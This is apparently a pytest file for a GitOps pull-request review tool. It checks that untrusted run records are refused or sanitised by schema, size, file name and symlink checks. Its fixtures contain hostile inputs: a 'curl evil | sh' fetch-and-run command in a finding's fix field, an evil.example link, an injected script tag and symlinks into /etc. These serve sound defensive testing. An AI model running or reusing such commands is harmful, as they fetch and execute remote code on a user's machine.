"""What a stranger's run left is data: by schema and size, of a rehearsal, and in our own words only."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from gitops.catalogue import Rule
from gitops.errors import UserError
from gitops.records import Severity
from gitops.review import intake
from gitops.review.intake import MOST_RECORDS, read_records, read_told
from tests.github.api import State, serving
from tests.repo import ROOT

FINDING = {
    "rule": "bucket-is-private",
    "level": "mandatory",
    "severity": "high",
    "message": "open",
    "title": "Visit me",
    "why": "@everybody",
    "fix": "curl evil | sh",
    "reference": "https://evil.example/login",
}
RULES = {
    "bucket-is-private": Rule(
        rule="bucket-is-private",
        title="A bucket is private",
        why="Because.",
        fix="Close it.",
        reference="https://docs.aws.amazon.com/",
        severity=Severity.HIGH,
    )
}


def record(**more: Any) -> dict[str, Any]:
    fields = {"stack": "web", "environment": "dev", "operation": "preview", "rehearsal": True, "status": "succeeded"}
    return {**fields, **more}


def folder(root: Path, *contents: object, name: str = "web.dev.json") -> Path:
    (root / "records").mkdir(parents=True, exist_ok=True)
    for number, content in enumerate(contents):
        text = content if isinstance(content, str) else json.dumps(content)
        (root / "records" / (name if not number else f"{number}.{name}")).write_text(text)
    return root


def test_a_finding_is_told_in_the_default_branchs_words(tmp_path: Path) -> None:
    stranger = {**FINDING, "rule": "mine"}

    (read,) = read_records(folder(tmp_path, record(findings=[FINDING, stranger])), RULES)

    assert [(f.title, f.why, f.fix, f.reference) for f in read.findings] == [
        ("A bucket is private", "Because.", "Close it.", "https://docs.aws.amazon.com/"),
        ("mine", "", "", ""),
    ]
    assert "evil" not in read.model_dump_json()


HOSTILE = {
    "no JSON": "{",
    "a list": "[]",
    "deep": "[" * 100_000,
    "another schema": record(body="<script>"),
    "a comment": "Ready\n<!-- gitops:report -->",
    "another target": record(stack="other"),
    "not of a rehearsal": record(rehearsal=False),
    "an unknown status": record(status="fine"),
    "steps of another kind": record(steps=[{"op": "create"}]),
    "an operation of ours": record(operation="approve"),
}


@pytest.mark.parametrize("content", HOSTILE.values(), ids=HOSTILE)
def test_what_is_no_record_is_refused_whole(tmp_path: Path, content: object) -> None:
    with pytest.raises(UserError) as raised:
        read_records(folder(tmp_path, content), RULES)
    assert "<script>" not in str(raised.value)


@pytest.mark.parametrize("name", ["web.json", "..dev.json", "web.dev.json.txt", "::error::.dev.json", "web.dev.md"])
def test_a_file_is_named_by_its_target(tmp_path: Path, name: str) -> None:
    with pytest.raises(UserError):
        read_records(folder(tmp_path, record(), name=name), RULES)


def test_a_link_is_refused_also_where_it_leads_to_a_record(tmp_path: Path) -> None:
    elsewhere = folder(tmp_path / "elsewhere", record()) / "records"
    linked, beside = tmp_path / "linked", tmp_path / "beside"
    (linked / "records").mkdir(parents=True)
    (linked / "records/web.dev.json").symlink_to(elsewhere / "web.dev.json")
    beside.mkdir()
    (beside / "records").symlink_to(elsewhere)

    assert read_records(elsewhere.parent, RULES)
    with pytest.raises(UserError, match="no plain file"):
        read_records(linked, RULES)
    with pytest.raises(UserError, match="0 records"):
        read_records(beside, RULES)


def test_links_folders_and_too_much_are_refused(tmp_path: Path) -> None:
    for case in ("link", "folder", "linked folder", "many", "none"):
        root = tmp_path / case
        (root / "records").mkdir(parents=True)
        if case == "link":
            (root / "records/web.dev.json").symlink_to("/etc/hostname")
        elif case == "folder":
            (root / "records/web.dev.json").mkdir()
        elif case == "linked folder":
            (root / "records").rmdir()
            (root / "records").symlink_to("/etc")
        elif case == "many":
            for number in range(MOST_RECORDS + 1):
                (root / f"records/web{number}.dev.json").touch()
        with pytest.raises(UserError):
            read_records(root, RULES)


def test_a_file_too_large_is_not_read(tmp_path: Path) -> None:
    large = folder(tmp_path, record()) / "records/web.dev.json"
    os.truncate(large, 20_000_001)

    with pytest.raises(UserError, match="20,000,001 bytes"):
        read_records(tmp_path, RULES)


def test_records_that_are_too_large_together_are_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(intake, "LARGEST_OF_ALL", 10_000)
    root = folder(tmp_path, record())
    large = record() | {"environment": "prod", "outputs": {"a": "x" * 9_900}}
    (root / "records/web.prod.json").write_text(json.dumps(large))

    with pytest.raises(UserError, match="expected 10,000 at most"):
        read_records(root, RULES)


def test_of_a_context_only_what_the_run_alone_knows_is_taken(tmp_path: Path) -> None:
    hostile = {"repository_url": "https://evil.example", "commit": "f" * 40, "judge_changes": ["weaker"], "removed": []}
    (tmp_path / "context.json").write_text(json.dumps(hostile))

    assert read_told(tmp_path).model_dump() == {"judge_changes": ("weaker",), "removed": ()}
    for text in ("[]", "{", '{"removed": "x"}', "[" * 100_000):
        (tmp_path / "context.json").write_text(text)
        with pytest.raises(UserError):
            read_told(tmp_path)


@pytest.fixture
def github() -> Iterator[tuple[str, State]]:
    with serving() as served:
        yield served


def test_the_command_renders_what_it_posts(github: tuple[str, State], tmp_path: Path) -> None:
    address, state = github
    state.open_pull(7, "a" * 40)
    incoming = folder(tmp_path, record(stack="logs", findings=[FINDING]), name="logs.dev.json")
    (incoming / "comment.md").write_text("Merge me\n<!-- gitops:report -->")
    command = [sys.executable, "-m", "gitops", "comment", str(incoming), "--head-sha", "a" * 40]
    command += ["--head-repository", "team/models", "--head-branch", "change", "--out", str(tmp_path / "rendered")]
    told = {**os.environ, "GITHUB_API_URL": address, "GITHUB_REPOSITORY": "team/models", "GITHUB_TOKEN": "writer"}

    done = subprocess.run([*command], cwd=ROOT, env=told, capture_output=True, text=True)

    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == ["commented on #7", "touches none of it"]
    assert state.comments[0]["body"].startswith("## Cannot merge: 1 mandatory finding in dev")
    assert "Merge me" not in state.comments[0]["body"]
    assert "evil" not in state.comments[0]["body"]
    assert (tmp_path / "rendered/policy.sarif").is_file()
